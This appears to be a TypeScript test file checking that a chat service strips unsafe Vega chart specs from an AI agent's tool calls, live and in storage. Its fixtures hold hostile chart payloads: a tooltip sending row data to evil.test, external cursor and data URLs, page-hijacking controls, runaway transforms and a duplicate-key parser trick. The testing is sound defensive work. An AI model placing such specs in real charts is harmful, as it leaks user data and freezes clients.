import { afterAll, beforeAll, expect, it } from 'vitest';
import { type ChatService, keys, newUser, openChatService } from '../support/chat-service.ts';
import { chatEventsDocument, sseClient, subscribe } from '../support/chat-subscription.ts';
import { describeDatabases } from '../support/database.ts';
import type { Line } from '../support/line-client.ts';
import { ScriptedAgent } from '../support/scripted-agent.ts';
import { startTurn } from '../support/start-turn.ts';

const bars = { mark: 'bar', encoding: { x: { field: 'revenue' }, y: { field: 'region' } } };
const safe = JSON.stringify(bars);
/** Charts that run, load, lead away or take the page over where there is no content security policy. */
const unsafe = {
  'a tooltip that loads': {
    ...bars,
    mark: { type: 'bar', tooltip: { expr: "{'image': 'https://evil.test/?' + datum.region}" } },
  },
  'a cursor that loads': { ...bars, mark: { type: 'bar', cursor: 'url(https://evil.test/),auto' } },
  'controls in the page': {
    ...bars,
    params: [{ name: 'p', value: 1, bind: { input: 'range', element: 'body' } }],
  },
  'a sequence without end': { ...bars, transform: [{ calculate: 'sequence(1e8)', as: 'a' }] },
  'gaps without end': {
    ...bars,
    transform: [{ impute: 'revenue', key: 'region', keyvals: { start: 0, stop: 1e8 } }],
  },
  'data of its own from elsewhere': { ...bars, data: { url: 'https://evil.test/' } },
};

describeDatabases('charts in threads', (kind) => {
  const agent = new ScriptedAgent();
  let service: ChatService;
  beforeAll(async () => {
    service = await openChatService({ kind, runTurn: agent.runTurn });
  });
  afterAll(async () => {
    expect(service.faults).toEqual([]);
    await service[Symbol.asyncDispose]();
  });

  /** A turn with one query, whose chart the agent proposes and draws. */
  async function turnWith(vegaSpec: unknown) {
    const sessionSettings = newUser();
    const { chatId, turn, stream } = await startTurn(service, agent, { input: 'Draw.', sessionSettings });
    const call = { id: 'c', name: 'svcSqlApi', input: JSON.stringify({ sqlQuery: 'SELECT 1', vegaSpec }) };
    await turn.say({ type: 'tool-call', ...call });
    await turn.say({ type: 'tool-result', ...call, result: JSON.stringify({ data: [[1]], vegaSpec }) });
    await turn.complete('Drawn.');
    return { chatId, sessionSettings, lines: await stream.rest() };
  }

  /** The parsed parameters and results of the calls in some lines, `__state__` included. */
  function callsIn(lines: readonly Line[]): readonly Record<string, unknown>[] {
    return lines
      .flatMap((line) => [line, ...(line.state?.messages ?? [])])
      .flatMap(({ toolCall }) => (toolCall === undefined ? [] : [toolCall.input, toolCall.result]))
      .flatMap((text) => (text === undefined ? [] : [JSON.parse(text) as Record<string, unknown>]));
  }

  /** The same thread as REST replays it, as a subscription does, and as GraphQL lists its messages. */
  async function readAgain(
    chatId: string,
    sessionSettings: object,
  ): Promise<readonly Record<string, unknown>[]> {
    const rest = await (await service.chat({ chatId, sessionSettings })).rest();
    const events: Line[] = [];
    const client = sseClient(service);
    for await (const line of subscribe(client, chatEventsDocument, { chatId })) events.push(line);
    client.dispose();
    const query = `query($chatId: String!) {
      chatThread(chatId: $chatId) { messages { edges { node { toolCall { inputJson resultJson } } } } } }`;
    const response = await service.gateway.fetch(
      new Request(`${service.url}/graphql`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Api-Key ${keys.admin}` },
        body: JSON.stringify({ query, variables: { chatId } }),
      }),
    );
    const { data } = (await response.json()) as {
      data: {
        chatThread: { messages: { edges: { node: { toolCall: Record<string, string | null> | null } }[] } };
      };
    };
    const listed = data.chatThread.messages.edges.flatMap(({ node }) => Object.values(node.toolCall ?? {}));
    const calls = listed.flatMap((text) =>
      text === null ? [] : [JSON.parse(text) as Record<string, unknown>],
    );
    return [...callsIn(rest), ...callsIn(events), ...calls];
  }

  it('charts in threads are said as they are when any client may draw them', async () => {
    const { chatId, sessionSettings, lines } = await turnWith(safe);
    const calls = [...callsIn(lines), ...(await readAgain(chatId, sessionSettings))];
    expect(calls.length).toBeGreaterThan(8);
    expect(calls.map(({ vegaSpec }) => vegaSpec)).toEqual(calls.map(() => safe));
  });

  it.each(Object.entries(unsafe))(
    'charts in threads are left out live and in what is kept with %s',
    async (_, spec) => {
      const { chatId, sessionSettings, lines } = await turnWith(JSON.stringify(spec));
      const stored = await service.services.prisma.chatMessage.findMany({ where: { threadId: chatId } });
      expect(stored.map(({ toolInput, toolResult }) => `${toolInput}${toolResult}`).join()).not.toMatch(
        /vegaSpec/,
      );
      for (const call of [...callsIn(lines), ...(await readAgain(chatId, sessionSettings))]) {
        expect(call).not.toHaveProperty('vegaSpec');
        expect(call['sqlQuery'] ?? call['data']).toBeDefined();
      }
    },
  );

  it.each(Object.entries(unsafe))(
    'charts in threads are left out of threads kept by earlier versions with %s',
    async (_, spec) => {
      const { chatId, sessionSettings } = await turnWith(safe);
      const vegaSpec = JSON.stringify(spec);
      await service.services.prisma.chatMessage.updateMany({
        where: { threadId: chatId, toolName: 'svcSqlApi' },
        data: {
          toolInput: JSON.stringify({ sqlQuery: 'SELECT 1', vegaSpec }),
          toolResult: JSON.stringify({ data: [[1]], vegaSpec }),
        },
      });
      const calls = await readAgain(chatId, sessionSettings);
      expect(calls.length).toBeGreaterThan(5);
      for (const call of calls) expect(call).not.toHaveProperty('vegaSpec');
    },
  );

  it('charts in threads are written once more where two parsers would read two things in them', async () => {
    const { lines } = await turnWith(`{"mark":{"type":"image"},${safe.slice(1)}`);
    expect(new Set(callsIn(lines).map(({ vegaSpec }) => vegaSpec))).toEqual(new Set([safe]));
  });

  it.each([{ mark: 'bar' }, 7, null, ['{}']])(
    'charts in threads are left out when they are no text: %j',
    async (vegaSpec) => {
      const { lines } = await turnWith(vegaSpec);
      for (const call of callsIn(lines)) expect(call).not.toHaveProperty('vegaSpec');
    },
  );
});
